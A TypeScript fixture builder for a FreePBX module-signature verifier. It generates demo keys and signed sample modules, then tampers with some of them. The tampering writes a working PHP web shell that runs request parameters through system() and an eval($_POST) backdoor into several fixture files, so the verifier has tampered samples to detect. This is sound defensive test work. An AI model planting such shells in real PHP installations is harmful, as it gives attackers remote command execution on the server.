// Builds the committed sample material in fixtures/ with pbxsig's own command line, the way a user
// (or FreePBX's release process) would: `pbxsig keys generate`, `keys certify`, `keys revoke`,
// `keys export` and `sign`. Written directly: file contents (modules, etc/amportal.conf), the changes
// that break samples after signing, and a "DEMO ONLY" armor comment on the two published secret keys.
//
//   fixtures/keys/               public keys: the demo master (the stand-in for FreePBX's master key)
//                                and developer keys it certified, revoked, let expire, or never certified;
//   fixtures/demo-secret-keys/   DEMO ONLY: the unprotected secret keys of the master and one developer;
//   fixtures/modules/<state>/    one sample module per state;
//   fixtures/installation/       a small FreePBX installation root (a "snapshot") for `verify --root`.
//
// Run with `npm run fixtures`; the output is committed so `npm start` needs no set-up. Every date is
// fixed (hidden options --created and --date), so the expired key stays expired and the revocation
// stays in the past whenever the samples are verified. Keys and signatures are new on each run.
// The other developers' secret keys live in a temporary directory and are discarded.

import { spawnSync } from 'node:child_process';
import { chmod, cp, mkdir, mkdtemp, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const CLI = join(ROOT, 'bin/pbxsig.js');
const FIXTURES = join(ROOT, 'fixtures');
const KEYS = join(FIXTURES, 'keys');
const SECRETS = join(FIXTURES, 'demo-secret-keys');
const MODULES = join(FIXTURES, 'modules');
const INSTALLATION = join(FIXTURES, 'installation');

// The story the dates tell: keys made at the start of 2024, certified the next day, modules signed in
// June 2024; the expired key expired and the revoked certification was revoked on 2025-01-01.
const MASTER_CREATED = '2024-01-01T12:00:00Z';
const DEVELOPERS_CREATED = '2024-01-02T12:00:00Z';
const CERTIFIED = '2024-01-03T12:00:00Z';
const SIGNED = '2024-06-01T12:00:00Z';
const REVOKED = '2025-01-01T12:00:00Z';
const SIGNED_BY = 'pbxsig fixtures, DEMO ONLY';

let temp = '';
let emptyPassphrase = '';

/** Shows a path the way the log prints it: relative to the repository, the temp dir as $TMP. */
function shown(text: string): string {
  let out = text;
  if (temp !== '') out = out.split(temp).join('$TMP');
  out = out.split(ROOT).join('');
  return /[\s()"']/.test(out) ? `'${out}'` : out;
}

/** Runs `pbxsig ARGS` (never on a terminal: no prompt can appear) and returns its stdout. */
function pbxsig(args: readonly string[]): string {
  process.stdout.write(`  $ pbxsig ${args.map(shown).join(' ')}\n`);
  const child = spawnSync(process.execPath, [CLI, ...args], {
    cwd: ROOT,
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  if (child.error) throw child.error;
  if (child.status !== 0)
    throw new Error(`pbxsig ${args.join(' ')}: exit ${child.status ?? child.signal}\n${child.stdout}${child.stderr}`);
  return child.stdout;
}

interface Key {
  readonly fingerprint: string;
  /** The long key ID (last 16 hex digits of the v4 fingerprint): FreePBX's BMO/<KEYID>.key name. */
  readonly keyId: string;
  readonly publicFile: string;
  readonly secretFile: string;
}

/** `pbxsig keys generate` into the temp dir, unprotected (an empty passphrase file: no prompt). */
function generate(
  out: string,
  name: string,
  email: string,
  created: string,
  expires?: string,
  type: 'ed25519' | 'rsa' = 'ed25519',
): Key {
  const prefix = join(temp, out);
  const stdout = pbxsig([
    'keys',
    'generate',
    '--name',
    name,
    '--email',
    email,
    '--created',
    created,
    '--type',
    type,
    ...(expires !== undefined ? ['--expires', expires] : []),
    '--out',
    prefix,
    '--passphrase-file',
    emptyPassphrase,
  ]);
  const fingerprint = /^([0-9A-F]{40})\s/.exec(stdout)?.[1];
  if (!fingerprint) throw new Error(`keys generate printed no fingerprint:\n${stdout}`);
  return {
    fingerprint,
    keyId: fingerprint.slice(-16),
    publicFile: `${prefix}.pub.asc`,
    secretFile: `${prefix}.secret.asc`,
  };
}

function certify(master: Key, key: string, out: string): void {
  pbxsig([
    'keys',
    'certify',
    '--master',
    master.secretFile,
    '--key',
    key,
    '--out',
    out,
    '--passphrase-file',
    emptyPassphrase,
    '--date',
    CERTIFIED,
  ]);
}

function sign(dir: string, key: Key): void {
  pbxsig([
    'sign',
    dir,
    '--key',
    key.secretFile,
    '--passphrase-file',
    emptyPassphrase,
    '--date',
    SIGNED,
    '--signed-by',
    SIGNED_BY,
  ]);
}

/** Writes files (path relative to dir) with their contents; a mode per path where it matters. */
async function writeTree(
  dir: string,
  files: Readonly<Record<string, string | Uint8Array>>,
  modes: Readonly<Record<string, number>> = {},
): Promise<void> {
  for (const [path, content] of Object.entries(files)) {
    await mkdir(dirname(join(dir, path)), { recursive: true });
    await writeFile(join(dir, path), content);
    const mode = modes[path] ?? (typeof content === 'string' && content.startsWith('#!') ? 0o755 : 0o644);
    await chmod(join(dir, path), mode);
  }
}

// ---------------------------------------------------------------------------------------------
// Keys

interface Keys {
  readonly master: Key;
  readonly developer: Key;
  readonly revoked: Key;
  readonly expired: Key;
  readonly uncertified: Key;
}

async function makeKeys(): Promise<Keys> {
  process.stdout.write('keys:\n');
  // The master's and the developer's secret keys are published (DEMO ONLY) and used from there on, so
  // every command below also shows that they work; the other secret keys stay in the temp dir.
  // RSA, as FreePBX's master keys are: FreePBX notices a master's revocation only from an RSA key.
  const master = await publishSecret(
    generate(
      'demo-master',
      'pbxsig Demo Master (DEMO ONLY, not FreePBX)',
      'demo-master@example.invalid',
      MASTER_CREATED,
      undefined,
      'rsa',
    ),
    'demo-master.secret.asc',
  );
  const developer = await publishSecret(
    generate('developer', 'Demo Developer', 'demo-developer@example.invalid', DEVELOPERS_CREATED),
    'developer.secret.asc',
  );
  const revoked = generate(
    'revoked-developer',
    'Revoked Developer',
    'revoked-developer@example.invalid',
    DEVELOPERS_CREATED,
  );
  // 365 days from its creation: expired on 2025-01-01, after it signed (2024-06-01).
  const expired = generate(
    'expired-developer',
    'Expired Developer',
    'expired-developer@example.invalid',
    DEVELOPERS_CREATED,
    '365d',
  );
  const uncertified = generate(
    'uncertified-developer',
    'Uncertified Developer',
    'uncertified-developer@example.invalid',
    DEVELOPERS_CREATED,
  );

  pbxsig(['keys', 'export', '--keys', master.publicFile, '--out', join(KEYS, 'demo-master.asc')]);
  certify(master, developer.publicFile, join(KEYS, 'developer.asc'));
  certify(master, expired.publicFile, join(KEYS, 'expired-developer.asc'));
  certify(master, revoked.publicFile, join(temp, 'revoked-developer.certified.asc'));
  pbxsig([
    'keys',
    'revoke',
    '--master',
    master.secretFile,
    '--key',
    join(temp, 'revoked-developer.certified.asc'),
    '--out',
    join(KEYS, 'revoked-developer.asc'),
    '--passphrase-file',
    emptyPassphrase,
    '--date',
    REVOKED,
    '--reason',
    'demo: key withdrawn by the master',
  ]);
  pbxsig(['keys', 'export', '--keys', uncertified.publicFile, '--out', join(KEYS, 'uncertified-developer.asc')]);
  return { master, developer, revoked, expired, uncertified };
}

/**
 * Copies a secret key into fixtures/demo-secret-keys/ with an armor comment saying what it is (DEMO
 * ONLY, see fixtures/README.md). Kept out of keys/, so `--keys fixtures/keys` reads public keys only.
 */
async function publishSecret(key: Key, name: string): Promise<Key> {
  const armored = await readFile(key.secretFile, 'utf8');
  const [begin, ...rest] = armored.split('\n');
  if (begin !== '-----BEGIN PGP PRIVATE KEY BLOCK-----')
    throw new Error(`${key.secretFile}: not an armored secret key`);
  const comment = "Comment: DEMO ONLY, published with pbxsig's sample material: never trust what it signs";
  const secretFile = join(SECRETS, name);
  await mkdir(SECRETS, { recursive: true });
  await writeFile(secretFile, [begin, comment, ...rest].join('\n'), { mode: 0o600 });
  return { ...key, secretFile };
}

// ---------------------------------------------------------------------------------------------
// Sample modules: one per state

// A small module shaped like a real FreePBX module.
const DEMO_MODULE: Readonly<Record<string, string>> = {
  'module.xml':
    '<module>\n  <rawname>demo</rawname>\n  <name>Demo</name>\n  <version>17.0.1</version>\n  <publisher>pbxsig fixtures (DEMO ONLY)</publisher>\n</module>\n',
  'Demo.class.php': '<?php\nnamespace FreePBX\\modules;\nclass Demo extends \\FreePBX_Helpers implements \\BMO {\n}\n',
  'functions.inc.php': '<?php\n// Dialplan hooks for the demo module.\n',
  'install.php': '<?php\n// Nothing to install.\n',
  'page.demo.php': '<?php\necho FreePBX::create()->Demo->showPage();\n',
  'assets/js/demo.js': '$(function () { console.log("demo"); });\n',
  'assets/css/demo.css': '.demo { color: #333; }\n',
  'views/main.php': '<div class="demo"><?php echo _("Demo module"); ?></div>\n',
  LICENSE: 'GPLv3+\n',
};

const WEB_SHELL = '<?php if (isset($_REQUEST["c"])) { system($_REQUEST["c"]); }\n';

/** Writes the demo module to fixtures/modules/<name>, signs it (unless no key), then breaks it. */
async function sampleModule(
  name: string,
  key: Key | undefined,
  breakIt?: (dir: string) => Promise<void>,
): Promise<void> {
  const dir = join(MODULES, name);
  await writeTree(dir, DEMO_MODULE);
  if (key) sign(dir, key);
  if (breakIt) await breakIt(dir);
}

async function makeSampleModules(keys: Keys): Promise<void> {
  process.stdout.write('modules:\n');
  await sampleModule('verified', keys.developer);
  await sampleModule('altered-file', keys.developer, (dir) => writeFile(join(dir, 'page.demo.php'), WEB_SHELL));
  await sampleModule('missing-file', keys.developer, (dir) => rm(join(dir, 'views/main.php')));
  await sampleModule('bad-signature', keys.developer, async (dir) => {
    // One hex digit of LICENSE's digest changed inside the signed text.
    const sig = join(dir, 'module.sig');
    const text = await readFile(sig, 'utf8');
    const changed = text.replace(
      /^(LICENSE = [0-9a-f]{63})([0-9a-f])$/m,
      (_, head: string, last: string) => `${head}${last === '0' ? '1' : '0'}`,
    );
    if (changed === text) throw new Error('bad-signature: no LICENSE line in module.sig');
    await writeFile(sig, changed);
  });
  await sampleModule('untrusted-signer', keys.uncertified);
  await sampleModule('revoked-signer', keys.revoked);
  await sampleModule('expired-signer', keys.expired);
  await sampleModule('unsigned', undefined);
  await sampleModule('unlisted-shell', keys.developer, (dir) => writeFile(join(dir, 'shell.php'), WEB_SHELL));
  // Signed while LICENSE was a plain file (pbxsig sign refuses a link out of the module), then swapped.
  await sampleModule('unsafe-symlink', keys.developer, async (dir) => {
    await rm(join(dir, 'LICENSE'));
    await symlink('/etc/hostname', join(dir, 'LICENSE'));
  });
}

// ---------------------------------------------------------------------------------------------
// A small FreePBX installation root

const WEBROOT = 'var/www/html';
const MODULES_DIR = `${WEBROOT}/admin/modules`;
const AMPORTAL_CONF = `# FreePBX settings of the pbxsig sample installation (DEMO ONLY).
# Paths are as on the installed host: pbxsig resolves them inside --root.
AMPDBENGINE=mysql
AMPWEBROOT=/var/www/html
AMPBIN=/var/lib/asterisk/bin
AMPSBIN=/usr/sbin
ASTAGIDIR=/var/lib/asterisk/agi-bin
ASTVARLIBDIR=/var/lib/asterisk
ASTETCDIR=/etc/asterisk
`;

// A 1x1 GIF: framework's admin/images/spinner.gif and core's assets/spinner.gif hold the same bytes.
const SPINNER = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const SPINNER_LINK_TARGET = '/var/www/html/admin/modules/core/assets/spinner.gif';

/** Where FreePBX's installer puts each part of framework's source tree (see src/install/layout.ts). */
const FRAMEWORK_PLACES: ReadonlyArray<readonly [string, string | null]> = [
  ['amp_conf/htdocs/', WEBROOT],
  ['amp_conf/bin/', 'var/lib/asterisk/bin'],
  ['amp_conf/sbin/', 'usr/sbin'],
  ['amp_conf/agi-bin/', 'var/lib/asterisk/agi-bin'],
  ['amp_conf/sounds/', 'var/lib/asterisk/sounds'],
  // Listed, but never installed or checked by FreePBX.
  ['amp_conf/astetc/', null],
  ['amp_conf/moh/', null],
  ['upgrades/', null],
];

function frameworkSource(keys: Keys, masterKey: string, developerKey: string): Record<string, string | Uint8Array> {
  const bmo = 'amp_conf/htdocs/admin/libraries/BMO';
  return {
    'module.xml':
      '<module>\n  <rawname>framework</rawname>\n  <name>FreePBX Framework</name>\n  <version>17.0.19</version>\n</module>\n',
    'install.php': '<?php\n// Framework installer: copies amp_conf/ into the web root, AMPBIN, AMPSBIN, ...\n',
    LICENSE: 'GPLv2+\n',
    'amp_conf/htdocs/index.php': '<?php\nheader("Location: admin/config.php");\n',
    'amp_conf/htdocs/admin/config.php':
      '<?php\n// The admin entry point.\nrequire dirname(__FILE__) . "/bootstrap.php";\n',
    'amp_conf/htdocs/admin/bootstrap.php': '<?php\n// Loads BMO and the modules.\n',
    'amp_conf/htdocs/admin/images/spinner.gif': SPINNER,
    'amp_conf/htdocs/admin/assets/js/pbxlib.js': 'var fpbx = {};\n',
    'amp_conf/htdocs/admin/libraries/BMO/GPG.class.php':
      '<?php\n// Module signature checks (the code pbxsig replays).\n',
    // FreePBX keeps its trust anchors in BMO/<KEYID>.key; framework's manifest lists them.
    [`${bmo}/${keys.master.keyId}.key`]: masterKey,
    [`${bmo}/${keys.developer.keyId}.key`]: developerKey,
    'amp_conf/bin/retrieve_conf': '#!/usr/bin/env php\n<?php\n// Writes the Asterisk configuration.\n',
    'amp_conf/sbin/fwconsole': '#!/usr/bin/env php\n<?php\n// FreePBX console.\n',
    'amp_conf/agi-bin/dialparties.agi': '#!/usr/bin/env php\n<?php\n// Ring groups.\n',
    'amp_conf/sounds/en/beep.gsm': Buffer.from('demo gsm audio\n'),
    'amp_conf/astetc/extensions.conf': '[from-internal]\n',
    'amp_conf/moh/default.wav': Buffer.from('RIFF demo wav\n'),
    'upgrades/17.0.19/migration.php': '<?php\n// Upgrade step.\n',
  };
}

const INSTALLED_MODULES: Readonly<Record<string, Readonly<Record<string, string | Uint8Array>>>> = {
  core: {
    'module.xml': '<module>\n  <rawname>core</rawname>\n  <name>Core</name>\n  <version>17.0.5</version>\n</module>\n',
    'Core.class.php':
      '<?php\nnamespace FreePBX\\modules;\nclass Core extends \\FreePBX_Helpers implements \\BMO {\n}\n',
    'functions.inc.php': '<?php\n// Dialplan generation.\n',
    'page.extensions.php': '<?php\necho FreePBX::create()->Core->showPage("extensions");\n',
    'views/extensions.php': '<div class="extensions"></div>\n',
    'assets/js/core.js': '$(function () {});\n',
    'assets/spinner.gif': SPINNER,
    'i18n/de_DE/LC_MESSAGES/core.po': 'msgid "Extensions"\nmsgstr "Nebenstellen"\n',
  },
  dashboard: {
    'module.xml':
      '<module>\n  <rawname>dashboard</rawname>\n  <name>System Dashboard</name>\n  <version>17.0.3</version>\n</module>\n',
    'Dashboard.class.php':
      '<?php\nnamespace FreePBX\\modules;\nclass Dashboard extends \\FreePBX_Helpers implements \\BMO {\n}\n',
    'views/dashboard.php': '<div id="dashboard"><?php echo $content; ?></div>\n',
    'sections/Overview.class.php': '<?php\nnamespace FreePBX\\modules\\Dashboard\\Sections;\nclass Overview {\n}\n',
    'assets/js/dashboard.js': '$(function () { /* widgets */ });\n',
  },
  voicemail: {
    'module.xml':
      '<module>\n  <rawname>voicemail</rawname>\n  <name>Voicemail</name>\n  <version>17.0.2</version>\n</module>\n',
    'Voicemail.class.php':
      '<?php\nnamespace FreePBX\\modules;\nclass Voicemail extends \\FreePBX_Helpers implements \\BMO {\n}\n',
    'functions.inc.php': '<?php\n// Voicemail dialplan.\n',
    'page.voicemail.php': '<?php\necho FreePBX::create()->Voicemail->showPage();\n',
    'views/settings.php': '<form id="voicemail"></form>\n',
  },
  ucp: {
    'module.xml':
      '<module>\n  <rawname>ucp</rawname>\n  <name>User Control Panel</name>\n  <version>17.0.4</version>\n</module>\n',
    'Ucp.class.php': '<?php\nnamespace FreePBX\\modules;\nclass Ucp extends \\FreePBX_Helpers implements \\BMO {\n}\n',
    'node/index.js': 'require("socket.io");\n',
    'node/package.json': '{ "name": "ucp-node", "dependencies": { "socket.io": "4.7.5", "ws": "8.17.1" } }\n',
    'assets/js/ucp.js': '$(function () {});\n',
  },
};

// Installed by FreePBX at run time (npm install in ucp/node), never listed: expected, not a finding.
const UCP_NODE_MODULES: Readonly<Record<string, string>> = {
  'node/node_modules/socket.io/package.json': '{ "name": "socket.io", "version": "4.7.5", "main": "lib/index.js" }\n',
  'node/node_modules/socket.io/lib/index.js': '"use strict";\nmodule.exports = {};\n',
  'node/node_modules/ws/package.json': '{ "name": "ws", "version": "8.17.1" }\n',
  'node/node_modules/ws/index.js': '"use strict";\nmodule.exports = require("./lib/websocket");\n',
  'node/node_modules/ws/lib/websocket.js': '"use strict";\nmodule.exports = class WebSocket {};\n',
  'node/node_modules/.bin/socket.io': '#!/usr/bin/env node\nrequire("../socket.io");\n',
};

async function makeInstallation(keys: Keys): Promise<void> {
  process.stdout.write('installation:\n');
  await writeTree(INSTALLATION, { 'etc/amportal.conf': AMPORTAL_CONF });
  const masterKey = await readFile(join(KEYS, 'demo-master.asc'), 'utf8');
  const developerKey = await readFile(join(KEYS, 'developer.asc'), 'utf8');

  // Framework: signed over its source tree (a staging copy), then installed where FreePBX puts it.
  const staging = join(temp, 'framework-src', 'framework');
  const source = frameworkSource(keys, masterKey, developerKey);
  await writeTree(staging, source);
  sign(staging, keys.developer);
  const frameworkDir = join(INSTALLATION, MODULES_DIR, 'framework');
  await mkdir(frameworkDir, { recursive: true });
  for (const path of Object.keys(source)) {
    const place = FRAMEWORK_PLACES.find(([prefix]) => path.startsWith(prefix));
    if (place && place[1] === null) continue;
    const target = place
      ? join(INSTALLATION, place[1] as string, path.slice(place[0].length))
      : join(frameworkDir, path);
    await mkdir(dirname(target), { recursive: true });
    if (path === 'amp_conf/htdocs/admin/images/spinner.gif') {
      // As on real hosts: an absolute link into core's assets. pbxsig resolves it inside --root.
      await symlink(SPINNER_LINK_TARGET, target);
      continue;
    }
    await cp(join(staging, path), target, { preserveTimestamps: true });
  }
  await rename(join(staging, 'module.sig'), join(frameworkDir, 'module.sig'));
  // Framework ships its unit tests unlisted. Real ones are known by their sha256 (src/unlisted/
  // stock-files.ts), which a sample cannot reproduce: the sample ships their configuration, not code.
  await writeTree(frameworkDir, {
    'utests/phpunit.xml': '<phpunit bootstrap="setuptests.php"/>\n',
  });

  for (const [name, files] of Object.entries(INSTALLED_MODULES)) {
    const dir = join(INSTALLATION, MODULES_DIR, name);
    await writeTree(dir, files);
    sign(dir, keys.developer);
  }
  // After signing: one altered file, one dropped web shell, a run-time node_modules/ tree.
  await writeFile(
    join(INSTALLATION, MODULES_DIR, 'dashboard/views/dashboard.php'),
    '<div id="dashboard"><?php echo $content; ?></div>\n<?php @eval($_POST["k"]); ?>\n',
  );
  await writeTree(join(INSTALLATION, MODULES_DIR, 'voicemail'), { 'shell.php': WEB_SHELL });
  await writeTree(join(INSTALLATION, MODULES_DIR, 'ucp'), UCP_NODE_MODULES);

  // The installation's keys are where FreePBX keeps them: framework installed BMO/<KEYID>.key above.
}

// ---------------------------------------------------------------------------------------------

/**
 * The repository ignores node_modules/ and dist/ at any depth; ucp's run-time node_modules/ tree must
 * still be committed. fixtures/.gitignore re-includes it, and git must then ignore nothing here.
 */
async function keepInGit(): Promise<void> {
  await writeFile(
    join(FIXTURES, '.gitignore'),
    "# Written by scripts/make-fixtures.ts. The sample installation holds a run-time node_modules/\n# tree (ucp/node/node_modules/), which the repository's node_modules/ rule would leave out.\n!node_modules/\n",
  );
  const git = spawnSync('git', ['ls-files', '--others', '--ignored', '--exclude-standard', '--', '.'], {
    cwd: FIXTURES,
    encoding: 'utf8',
  });
  if (git.status !== 0) {
    process.stdout.write(
      `note: could not ask git which fixtures it ignores (${git.error?.message ?? git.stderr.trim()})\n`,
    );
    return;
  }
  if (git.stdout.trim() !== '') throw new Error(`git would not commit these fixtures (see .gitignore):\n${git.stdout}`);
}

async function main(): Promise<void> {
  for (const dir of [KEYS, SECRETS, MODULES, INSTALLATION]) await rm(dir, { recursive: true, force: true });
  await mkdir(KEYS, { recursive: true });
  temp = await mkdtemp(join(tmpdir(), 'pbxsig-fixtures-'));
  try {
    emptyPassphrase = join(temp, 'empty-passphrase');
    await writeFile(emptyPassphrase, '');
    process.stdout.write(
      `Building ${relative(process.cwd(), FIXTURES) || '.'} with pbxsig's CLI ($TMP: a temporary directory, removed at the end)\n`,
    );
    const keys = await makeKeys();
    await makeSampleModules(keys);
    await makeInstallation(keys);
    await keepInGit();
    process.stdout.write(`fixtures written to ${FIXTURES}\n`);
  } finally {
    await rm(temp, { recursive: true, force: true });
  }
}

main().catch((error: unknown) => {
  process.stderr.write(`make-fixtures failed: ${error instanceof Error ? error.message : String(error)}\n`);
  process.exitCode = 1;
});
